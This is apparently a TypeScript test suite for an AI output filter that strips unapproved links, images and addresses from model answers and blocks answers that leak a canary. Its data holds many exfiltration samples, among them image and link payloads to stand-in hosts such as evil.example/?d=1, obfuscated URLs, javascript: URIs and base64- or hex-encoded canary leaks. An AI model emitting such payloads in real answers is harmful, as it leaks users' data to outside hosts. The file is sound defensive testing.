import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { contextLinksOf } from '../../../../shared/ai/safety/context-links.ts'
import type { GateForm } from '../../../../shared/ai/safety/gate-forms.ts'
import { gatedWhole, outputGate } from '../../../../shared/ai/safety/output-gate.ts'
import { linkedBy, linkifiedIn } from '../../../../eval/gate/link-readers.ts'

const newGate = await outputGate()
const context =
  'See https://portal.contoso.example/tickets/7?view=all and (https://portal.contoso.example/a_(b)). ' +
  'Also https://blocked.example.net/x. From mia@contoso.example.'
const links = contextLinksOf([context], ['portal.contoso.example', 'contoso.example'])
const canary = 'kq3w8e7r6t5y4u3i2o1pa'
const gated = (text: string, form: GateForm = 'markdown'): string =>
  gatedWhole(newGate({ links, form, canary, seal: 'ab12cd34ef56ab12cd34' }), text)

const allowed = 'https://portal.contoso.example/tickets/7?view=all'

describe('the output gate', () => {
  it.each([
    `[the ticket](${allowed})`,
    'Restart the **spooler** on `PRINT01`, then _wait_ 5 minutes.',
    '# Cause\n\n- disk C:\\ is full (98 %)\n- `Get-Service | Stop-Service` fails\n\n| a | b |\n| - | - |\n| 1 | 2 |\n',
    'AT&T said: 3 < 4, a > b, 5 * 3 and snake_case at 10:30!',
    '```powershell\nGet-Item $x[0] | Where { $_ -lt 3 }\n<x> & [y](z)\n```\nDone.',
    'Ünïcode, 日本語、テスト and 👩‍💻 stay.',
    'Write to mia@contoso.example today.',
    'Press 1️⃣, or run `npm i lodash@4.17.21`; lodash@4.17.20 is old.',
    `[Mia](mailto:mia@contoso.example) has [\`PRINT01\`](${allowed}) in her office.`,
    `[portal.contoso.example](${allowed}) tells how to [install Node.js](${allowed}).`,
    '| a | b |\n| - | - |\n| `x \\| y[0]` | z |',
    'The folder C:\\src\\Contoso.Services\\bin and /Applications/Contoso.app/Contents stay.',
  ])('lets through what is harmless, as it is: %s', (text) => {
    expect(gated(text)).toBe(text)
  })

  it.each([
    ['[click](https://evil.example/?d=1)', 'click'],
    ['![logo](https://evil.example/p.png?d=1)', 'logo'],
    [`![x](${allowed})`, 'x'],
    ['<https://evil.example/>', '(link removed)'],
    ['https://evil.example/?d=1', '(link removed)'],
    ['www.evil.example/x', '(link removed)'],
    ['.www.evil.example', '(link removed)'],
    ['eve@evil.example', '(address removed)'],
    ['<img src="https://evil.example/x">', ''],
    ['<a href="//evil.example">x</a>', 'x'],
    ['<a href=//evil.example>x</a>', '\\<a href=//evil.example>x'],
    ['[x][r]\n\n[r]: https://evil.example', '\\[x\\]\\[r\\]\n\n\\[r\\]: (link removed)'],
    ['[x](data:text/html;base64,AA)', 'x'],
    ['[x](javascript:alert(1))', 'x'],
    ['[x](//portal.contoso.example/tickets/7)', 'x'],
    ['[x](https://portal.contoso.example@evil.example/)', 'x'],
    ['[x](https://me:pw@portal.contoso.example/tickets/7?view=all)', 'x'],
    ['[x](https://portal.contoso.example/tickets/8)', 'x'],
    ['https://blocked.example.net/x', 'hxxps://blocked\\[.\\]example\\[.\\]net/x'],
    [`[https://evil.example](${allowed})`, `<${allowed}>`],
    [`[portal.fabrikam.example](${allowed})`, `<${allowed}>`],
    ['ht**tp**s://evil.example', '(link removed)'],
    ['ht<!-- -->tps://evil.example', '(link removed)'],
    ['https:`//evil.example`', '(link removed)'],
    ['&#104;ttps://evil.example', '(link removed)'],
    ['https:\\//evil.example', '(link removed)'],
    ['ｈｔｔｐｓ：／／evil.example', '(link removed)'],
    ['htt\u200bps://evil.example', '(link removed)'],
    [`${allowed}^secret`, '(link removed)'],
    [`<${allowed}>secret`, `<${allowed}>secret`],
    ['a\u202eb\u{e0041}c', 'abc'],
    ['<server> is down', '\\<server> is down'],
    [`!\u200b[x](${allowed})`, 'x'],
    ['evil.com/?d=1', '(link removed)'],
    ['evil\\.com/c/1.png', '(link removed)'],
    ['.//evil.com/c', '(link removed)'],
    ['portal.contoso.example/c?d=1', '(link removed)'],
    ['sms:+1900?body=1', '(link removed)'],
    ['[x](mailto:mia@contoso.example?cc=eve@evil.com)', 'x'],
    ['mia@contoso.example_x.evil.com', 'mia@contoso.example _x.evil.com'],
    ['d=1/mia@contoso.example', 'd=1/ mia@contoso.example'],
    ['eve@.evil.com', '(address removed)'],
    ['eve@💩.ws', '(address removed)'],
    ['Press <Del>.', 'Press \\<Del>.'],
  ])('makes of %j', (text, safe) => {
    expect(gated(text)).toBe(safe)
  })

  it('writes plain text in which nothing becomes a link or a tag', () => {
    expect(
      gated('Go to evil.com, or evil.com/x?d=1, **now**: [the ticket](' + allowed + '). &lt;img src=x>', 'text'),
    ).toBe(`Go to evil[.]com, or (link removed) now: the ticket (${allowed}). ‹img src=x>`)
    expect(gated(`<${allowed}>secret ${allowed}^secret`, 'text')).toBe(`${allowed} secret (link removed)`)
    expect(gated('ev`il.com` and \\\\evil.com\\share', 'text')).toBe('evil[.]com and (link removed)')
  })

  it.each([
    ['portal.contoso.example/c?d=1', '(link removed)'],
    ['portal.contoso.example/tickets/7?view=all.', `${allowed}.`],
    ['portal.contoso.example:8080/c', '(link removed)'],
    [
      'evil.com:8080 evil.com- evil.com-x x.evil.com.yy',
      'evil[.]com:8080 evil[.]com- evil[.]com-x x[.]evil[.]com[.]yy',
    ],
    ['💩evil.ws evil💩.ws 💩README.md b\u0324evil.com', '💩evil[.]ws evil💩[.]ws 💩README[.]md b\u0324evil[.]com'],
    ['README.md#x?d=1 asp.net?d=1', '(link removed) (link removed)'],
    ['/srv/evil.com?d=1 /srv//evil.com/c C:\\evil.com/c', '(link removed) (link removed) (link removed)'],
    ['//x:y@evil.com //evil.com', '(address removed) (link removed)'],
    [`[x](${allowed}).secret`, `x (${allowed}) .secret`],
    [`**[x](${allowed})** and *${allowed}*`, `x (${allowed}) and ${allowed}`],
    ['[Mia](mailto:mia@contoso.example)', 'Mia (mia@contoso.example)'],
    [
      '\\\\fs01\\home\\%USERNAME% C:\\$Recycle.Bin snake\\_case',
      '\\\\fs01\\home\\%USERNAME% C:\\$Recycle.Bin snake_case',
    ],
    ['C:\\src\\Contoso.Services\\x.cs', 'C:\\src\\Contoso[.]Services\\x.cs'],
    ['main.rs:42, README.md and setup.zip', 'main.rs:42, README.md and setup[.]zip'],
    ['It was full.It is not now. `d.Name`', 'It was full. It is not now. d[.]Name'],
    ['__init__ is called, **bold**', '__init__ is called, bold'],
    ['//TODO retry //fs01/public', '//TODO retry //fs01/public'],
  ])('makes of %j in plain text', (text, safe) => {
    expect(gated(text, 'text')).toBe(safe)
  })

  it.each([
    '\\\\fs-02\\Exports$\\_old',
    'C:\\Users\\.ssh\\id_rsa',
    'C:\\_work\\1\\__pycache__',
    'D:\\(old)\\x',
    'HKLM\\Software\\{4d36e972}',
    '%TEMP%\\_x',
    'NORTHWIND\\_backup',
  ])('leaves the backslashes of %s as they are in plain text', (path) => {
    expect(gated(`It is in ${path}, **now**.`, 'text')).toBe(`It is in ${path}, now.`)
  })

  it('shows a link of the context once more as the address that it has, and as no more than text where its host is not allowed', () => {
    expect(gated(`${allowed}.`)).toBe(`<${allowed}>.`)
    expect(gated('[report](https://blocked.example.net/x)')).toBe('report')
  })

  it.each([
    'https://me:pw@portal.contoso.example/x',
    ...['portal.contoso.example', 'blocked.example.net'].flatMap((host) =>
      [
        'go?to=https://evil.example/',
        'go?to=HTTPS://evil.example/',
        'go?to=https%3A%2F%2Fevil.com%2F',
        'go?to=//evil.com/',
        '*https://evil.com/',
        'a,https://evil.com,http://two.com/',
        '#https://evil.com/x',
      ].map((inner) => `https://${host}/${inner}`),
    ),
    ...['go?to=www.evil.com', '(www.evil.com)/', ';evil.com/x', 'eve@evil.com'].map(
      (inner) => `https://blocked.example.net/${inner}`,
    ),
  ])('makes no link of %s, nor of what is in it, though the context has it', (address) => {
    const rules = { links: contextLinksOf([`See ${address} for more.`], ['portal.contoso.example']) }
    const shown = (form: GateForm): string =>
      gatedWhole(newGate({ ...rules, form }), `[x](${address}) or ${address} now`)
    expect([linkedBy(shown('markdown')), linkifiedIn(shown('text'))]).toEqual([[], []])
  })

  it('leaves out what marks data in the prompt', () => {
    expect(gated('a\ue123\ue456b <<<data x ab12cd34ef56ab12cd34>>> c')).toBe('a b <<\\<data x c')
  })

  it('drops a word that is longer than any, and what follows is judged anew', () => {
    expect(gated(`${'a'.repeat(5_000)} b`)).toBe('(text removed) b')
    expect(gated(`[${'a '.repeat(3_000)}](https://evil.example) b`)).not.toMatch(/evil/)
  })

  it.each([
    ['as it is', canary],
    ['in capitals with blanks', canary.toUpperCase().split('').join(' ')],
    ['turned round', canary.split('').toReversed().join('')],
    ['in base64', Buffer.from(`It is ${canary}.`).toString('base64')],
    ['in base64, a place further', Buffer.from(`It was ${canary}.`).toString('base64')],
    ['in base64, two places further', Buffer.from(`It says ${canary}.`).toString('base64')],
    ['in hex', Buffer.from(canary).toString('hex')],
  ])('refuses an answer that has the canary %s, however it arrives', (_, leak) => {
    const stream = newGate({ links, canary })
    expect(() => {
      for (const unit of `Well: ${leak} there.`) stream.push(unit)
      stream.end()
    }).toThrow(expect.objectContaining({ code: 'answer-refused' }))
  })

  it('shows words as they arrive, and holds back only from what is open', () => {
    const stream = newGate({ links })
    expect(stream.push('Restart the sp')).toBe('Restart the ')
    expect(stream.push('ooler, see [the ')).toBe('spooler, see ')
    expect(stream.push(`ticket](${allowed}) an`)).toBe(`[the ticket](${allowed}) `)
    expect(stream.end()).toBe('an')
  })

  it('keeps a code block closed that a model tries to end early', () => {
    const text = `\`\`\`\n\u200b\`\`\`\n~~~\n[x](//evil.example) ${' '.repeat(3_000)}\n\`\`\`${' '.repeat(3_000)}\n[y](//evil.example)`
    expect(linkedBy(gated(text))).toEqual([])
    expect(linkedBy(gated('```\n\u200b```\n[x](//evil.example)\n```'))).toEqual([])
    expect(linkedBy(gated('\u200b~~~\n```\n~~~\n[x](//evil.example)\n```\n[y](//evil.example)'))).toEqual([])
  })
})

/** What attacks are made of, in any order. */
const fragment = fc.constantFrom(
  // prettier-ignore
  ...'[ ] ( ) ]( ![ < > ` ``` ~~~ | \\ ! & # * _ ** = --- <!-- --> ^ { " . , https://evil.example/x http :// //evil.example www. evil.com'.split(' '),
  ...'@ mailto: javascript: data:text/html, [r]: [^1] <img src= <a href=" "> </a> &#91; &lt; &#x68; %68 \\[ C:\\ \\\\srv \\. word'.split(
    ' ',
  ),
  ...'\n|\r\n| |\t|- |> |    |two words|ü|👩‍💻|\u200b|\u202e|\u{e0041}|\ue123\ue124|\u1fef|\u0301'.split('|'),
  allowed,
  `[a](${allowed})`,
  'mia@contoso.example',
  '[m](mailto:mia@contoso.example)',
  'portal.contoso.example/',
)
const own = new Set([allowed, 'mailto:mia@contoso.example'])
const hostile = fc.array(fragment, { maxLength: 24 }).map((parts) => parts.join(''))

describe('any answer, in any parts', () => {
  it('reads streamed as it reads whole', () => {
    fc.assert(
      fc.property(
        hostile,
        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 20 }),
        fc.constantFrom<GateForm>('markdown', 'text'),
        (text, sizes, form) => {
          const stream = newGate({ links, form })
          let shown = ''
          for (let at = 0, turn = 0; at < text.length; turn += 1) {
            const end = at + (sizes[turn % sizes.length] ?? 1)
            shown += stream.push(text.slice(at, end))
            at = end
          }
          expect(shown + stream.end()).toBe(gated(text, form))
        },
      ),
      { numRuns: 300 },
    )
  })

  it('has no link, image or tag for any reader that the context does not have', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const safe = gated(text)
        expect(linkedBy(safe).filter((link) => !own.has(link))).toEqual([])
        expect(linkifiedIn(gated(text, 'text')).filter((link) => !own.has(link))).toEqual([])
      }),
      { numRuns: 600 },
    )
  })
})

describe('the readers of these tests', () => {
  it('see links, images and tags', () => {
    expect(linkedBy('[a](//b.c) ![i](x) <b> www.d.com e@f.com')).toHaveLength(5)
    expect(linkifiedIn('a.com http://b.c d@e.com <b>')).toHaveLength(4)
  })
})
